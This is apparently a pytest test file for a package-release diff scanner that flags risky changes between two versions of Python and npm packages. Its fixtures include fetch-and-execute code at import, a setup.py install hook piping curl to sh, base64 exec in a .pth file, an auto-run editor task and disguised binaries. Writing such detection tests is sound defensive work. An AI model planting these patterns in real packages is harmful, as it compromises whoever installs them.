"""The release diff over twins: an honest release, and the next one with something in it."""

from __future__ import annotations

import pytest

from depscan.release.diff import ReleaseDiff, compare, jump
from tests.unit.artifacts.builders import ELF
from tests.unit.release.releases import CODE, Files, npm, sdist, wheel

BASE = {"demo/__init__.py": "from demo import core\n", "demo/core.py": CODE}
FETCH = """
import threading, urllib.request, subprocess

def _go():
    subprocess.Popen(urllib.request.urlopen("https://collector.invalid/a").read(), shell=True)

threading.Thread(target=_go, daemon=True).start()
"""


def loud(diff: ReleaseDiff) -> set[tuple[str, str]]:
    return {(s.when, s.kind) for s in diff.added if s.loud}


def test_the_same_release_is_the_same() -> None:
    diff = compare(wheel(BASE), wheel(BASE))
    assert (diff.verdict, diff.added, diff.removed) == ("same", (), ())


def test_a_version_bump_is_no_difference() -> None:
    text = "import urllib.request\nurllib.request.urlopen('https://files.example/demo/{}')\n"
    old = wheel({**BASE, "demo/net.py": text.format("1.10.0")}, "1.10.0")
    new = wheel({**BASE, "demo/net.py": "# bumped\n" + text.format("1.11.0")}, "1.11.0")
    diff = compare(old, new)
    assert (diff.verdict, diff.jump, diff.added) == ("same", "minor", ())


def test_a_start_up_line_makes_a_release_worse() -> None:
    line = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
    diff = compare(wheel(BASE), wheel({**BASE, "demo_init.pth": line}, "1.0.1"))
    assert diff.verdict == "worse"
    assert ("startup", "start-line") in loud(diff)
    assert any(s.path == "demo_init.pth" and s.line == 1 for s in diff.added)


def test_a_thread_that_fetches_at_import_makes_a_release_worse() -> None:
    diff = compare(wheel(BASE), wheel({**BASE, "demo/core.py": CODE + FETCH}, "1.0.1"))
    assert diff.verdict == "worse"
    assert {("import", "network"), ("import", "process")} <= loud(diff)


def test_the_same_made_good_again_is_better() -> None:
    diff = compare(wheel({**BASE, "demo/core.py": CODE + FETCH}), wheel(BASE, "1.0.1"))
    assert diff.verdict == "better"
    assert any(s.loud for s in diff.removed)


def test_a_moved_file_without_change_is_no_change() -> None:
    text = "import subprocess\nsubprocess.run(['git', '--version'])\nsubprocess.run(COMMAND)\n"
    old = wheel({**BASE, "demo/tool.py": text})
    new = wheel({**BASE, "demo/inner/__init__.py": "", "demo/inner/tool.py": "\n\n" + text}, "1.0.1")
    diff = compare(old, new)
    assert (diff.verdict, diff.added) == ("same", ())


def test_a_second_call_with_unknown_values_is_an_addition() -> None:
    old = wheel({**BASE, "demo/a.py": "import subprocess, x\nsubprocess.run(x.command)\n"})
    new = wheel({**BASE, "demo/a.py": "import subprocess, x\nsubprocess.run(x.command)\nsubprocess.run(x.other)\n"})
    assert compare(old, new).verdict == "worse"
    assert [s.line for s in compare(old, new).added] == [3]


def test_only_docs_changed_is_the_same() -> None:
    payload = "import os\nos.system('curl https://collector.invalid')\n"
    old = sdist({"demo/__init__.py": "", "docs/conf.py": "x = 1\n", "pyproject.toml": ""})
    new = sdist({"demo/__init__.py": "", "docs/conf.py": payload, "README.md": "hello", "pyproject.toml": ""}, "1.0.1")
    assert compare(old, new).verdict == "same"


def test_a_command_class_that_runs_a_program_makes_an_sdist_worse() -> None:
    plain = "from setuptools import setup\nsetup(name='demo')\n"
    hooked = """
import os
from setuptools import setup
from setuptools.command.install import install

class Hook(install):
    def run(self):
        os.system("curl https://collector.invalid | sh")
        install.run(self)

setup(name="demo", cmdclass={"install": Hook})
"""
    diff = compare(sdist({"setup.py": plain}), sdist({"setup.py": hooked}, "1.0.1"))
    assert diff.verdict == "worse"
    assert ("install", "process") in loud(diff)


def test_a_build_back_end_of_its_own_makes_an_sdist_worse() -> None:
    old = sdist({"pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'})
    toml = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["build"]\n'
    new = sdist({"pyproject.toml": toml, "build/backend.py": "def build_wheel(*a): ...\n"}, "1.0.1")
    assert ("install", "build-backend") in loud(compare(old, new))


def test_another_usual_back_end_is_shown_and_not_worse() -> None:
    texts = [f'[build-system]\nrequires = ["{n}"]\nbuild-backend = "{n}.build"\n' for n in ("flit", "hatchling")]
    diff = compare(*(sdist({"pyproject.toml": text}) for text in texts))
    assert diff.verdict == "same"
    assert [s.detail for s in diff.added] == ["built by hatchling.build"]
    assert [new.requirement.name for new in diff.new_requirements] == ["hatchling"]


def test_a_binding_gyp_makes_an_npm_release_worse() -> None:
    manifest = '{"name": "demo", "version": "1.0.0", "main": "index.js"}'
    gyp = "{'targets': [{'target_name': 'x', 'sources': ['<!(node setup.js)']}]}"
    old, new = npm(manifest, {"index.js": ""}), npm(manifest, {"index.js": "", "binding.gyp": gyp})
    diff = compare(old, new)
    assert diff.verdict == "worse"
    assert any("node-gyp rebuild" in s.detail for s in diff.added)


def test_an_install_script_is_worse_and_a_prepare_script_of_a_tarball_is_not() -> None:
    plain = '{"name": "demo", "version": "1.0.0"}'
    hook = '{{"name": "demo", "version": "1.0.1", "scripts": {{"{}": "node build.js"}}}}'
    assert compare(npm(plain), npm(hook.format("postinstall"))).verdict == "worse"
    diff = compare(npm(plain), npm(hook.format("prepare")))
    assert diff.verdict == "same"
    assert any(s.detail.startswith("npm('prepare:") for s in diff.added)


def test_a_git_dependency_is_worse_and_a_plain_one_is_shown() -> None:
    plain = '{"name": "demo", "version": "1.0.0"}'
    more = '{{"name": "demo", "version": "1.0.1", "optionalDependencies": {{"setup": "{}"}}}}'
    diff = compare(npm(plain), npm(more.format("github:someone/repo#79ac49")))
    assert diff.verdict == "worse"
    assert diff.reasons == ("needs setup from outside the index",)
    ordinary = compare(npm(plain), npm(more.format("^4.2.1")))
    assert (ordinary.verdict, ordinary.new_requirements[0].requirement.name) == ("same", "setup")
    turned = compare(npm(more.format("^4.2.1")), npm(more.format("https://files.example/x.tgz")))
    assert turned.verdict == "worse"


@pytest.mark.parametrize(
    "wanted",
    ["^1.2.3", "*", "latest", "1.x || >=2.5.0 <3.0.0", "npm:other@^1.0.0", "npm:@scope/other@1.0.0", "", "1 - 2"],
)
def test_ranges_of_the_registry_are_not_direct(wanted: str) -> None:
    release = npm(f'{{"name": "demo", "version": "1.0.0", "dependencies": {{"a": "{wanted}"}}}}')
    assert [r.direct for r in release.requires] == [False]


@pytest.mark.parametrize(
    "wanted", ["git+ssh://git@x.example/a.git", "user/repo", "https://x.example/a.tgz", "file:../a"]
)
def test_what_names_a_place_is_direct(wanted: str) -> None:
    release = npm(f'{{"name": "demo", "version": "1.0.0", "dependencies": {{"a": "{wanted}"}}}}')
    assert [r.direct for r in release.requires] == [True]


def test_python_requirements_are_told_apart() -> None:
    old = wheel(BASE, metadata="Requires-Dist: alpha>=1\nRequires-Dist: beta; extra == 'x'\n")
    lines = "Requires-Dist: Alpha>=2\nRequires-Dist: gamma @ https://files.example/g.whl\nRequires-Dist: delta\n"
    diff = compare(old, wheel(BASE, "1.0.1", metadata=lines))
    assert {n.requirement.name: n.requirement.direct for n in diff.new_requirements} == {"gamma": True, "delta": False}
    assert [(c.before, c.after) for c in diff.changed_requirements] == [("alpha>=1", "alpha>=2")]
    assert [r.name for r in diff.removed_requirements] == ["beta"]


def test_the_spelling_of_a_requirement_is_no_change() -> None:
    old = wheel(BASE, metadata='Requires-Dist: Alpha (>=1,<2) ; python_version < "3.9"\n')
    new = wheel(BASE, metadata="Requires-Dist: alpha<2,>=1; python_version < '3.9'\n")
    assert compare(old, new).changed_requirements == ()


def test_a_program_in_a_wheel_that_runs_anywhere_is_worse() -> None:
    diff = compare(wheel(BASE), wheel({**BASE, "demo/helper": ELF}, "1.0.1"))
    assert diff.verdict == "worse"
    assert [(s.kind, s.path) for s in diff.added if s.loud] == [("native", "demo/helper")]


def test_bytecode_without_source_and_a_program_named_png_are_worse() -> None:
    pyc = b"\xa7\r\r\n" + bytes(40)
    diff = compare(wheel(BASE), wheel({**BASE, "demo/hid.pyc": pyc, "demo/logo.png": ELF}, "1.0.1"))
    assert {"bytecode", "disguised"} <= {s.kind for s in diff.added if s.loud}


def test_an_editor_task_that_starts_by_itself_is_worse_and_plain_settings_are_not() -> None:
    task = '{"tasks": [{"command": "node x.js", "runOptions": {"runOn": "folderOpen"}}]}'
    manifest = '{"name": "demo", "version": "1.0.0"}'
    assert compare(npm(manifest), npm(manifest, {".vscode/tasks.json": task})).verdict == "worse"
    quiet = compare(npm(manifest), npm(manifest, {".vscode/settings.json": "{}", "AGENTS.md": "be kind"}))
    assert quiet.verdict == "same"
    assert [s.kind for s in quiet.added] == ["agent-file", "agent-file"]


def test_entry_points_models_and_long_lines_are_shown_quietly() -> None:
    info = {"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.core:main\n"}
    table = f"TABLE = '{'a' * 5000}'\n"
    files: Files = {**BASE, **info, "demo/weights.pkl": b"\x80\x04N.", "demo/table.py": table}
    diff = compare(wheel(BASE), wheel(files))
    assert diff.verdict == "same"
    assert {s.kind for s in diff.added} == {"entry-point", "model-file", "long-line"}


def test_a_changed_owner_and_repository_are_told() -> None:
    old = wheel(BASE, metadata="Author-email: a@old.example\nProject-URL: Source, https://git.example/a\n")
    new = wheel(BASE, metadata="Author-email: b@new.example\nProject-URL: Source, https://git.example/b\n")
    assert [(c.what, c.after) for c in compare(old, new).people] == [
        ("author", "b@new.example"),
        ("repository", "https://git.example/b"),
    ]


def test_a_jump_in_size_names_the_largest_new_file() -> None:
    diff = compare(wheel(BASE), wheel({**BASE, "demo/data.bin": b"\1\2\3\0" * 100_000}))
    assert diff.size_jump
    assert diff.largest == ("demo/data.bin", 400_000)


@pytest.mark.parametrize(
    ("before", "after", "step"),
    [("1.0", "2.0", "major"), ("1.0", "1.1", "minor"), ("1.0.1", "1.0.2", "patch"), ("2", "1", "down"),
     ("1.0", "1.0.0", "same"), ("", "1", "unknown"), ("x", "y", "unknown")],
)  # fmt: skip
def test_the_part_of_a_version_that_went_up_is_told(before: str, after: str, step: str) -> None:
    assert jump(before, after) == step


def test_install_code_that_cannot_be_read_is_never_same() -> None:
    old = sdist({"setup.py": "from setuptools import setup\nsetup()\n"})
    new = sdist({"setup.py": "exec(((\nclass :\n def (:\n"}, "1.0.1")
    assert compare(old, new).verdict in {"worse", "incomplete"}


def test_obfuscated_javascript_is_worse_and_minified_is_not() -> None:
    manifest = '{"name": "demo", "version": "1.0.0", "main": "index.js"}'
    masked = "".join(f"var _0x{i:04x}='{'a' * 90}';" for i in range(4096, 4150))
    minified = "".join(f"var a{i}='{'a' * 90}';" for i in range(60))
    old = npm(manifest, {"index.js": "module.exports = 1\n"})
    assert ("import", "obfuscated") in loud(compare(old, npm(manifest, {"index.js": masked})))
    assert compare(old, npm(manifest, {"index.js": minified})).verdict == "same"


def test_a_new_host_that_is_talked_to_when_called_is_shown() -> None:
    call = "import requests\n\ndef send():\n    requests.get('https://{}/v1')\n"
    old = wheel({**BASE, "demo/api.py": call.format("api.example")})
    new = wheel({**BASE, "demo/api.py": call.format("api.example") + call.format("other.example")}, "1.0.1")
    diff = compare(old, new)
    assert diff.verdict == "same"
    assert [(s.kind, s.detail, s.line) for s in diff.added] == [("address", "requests.get to other.example", 8)]
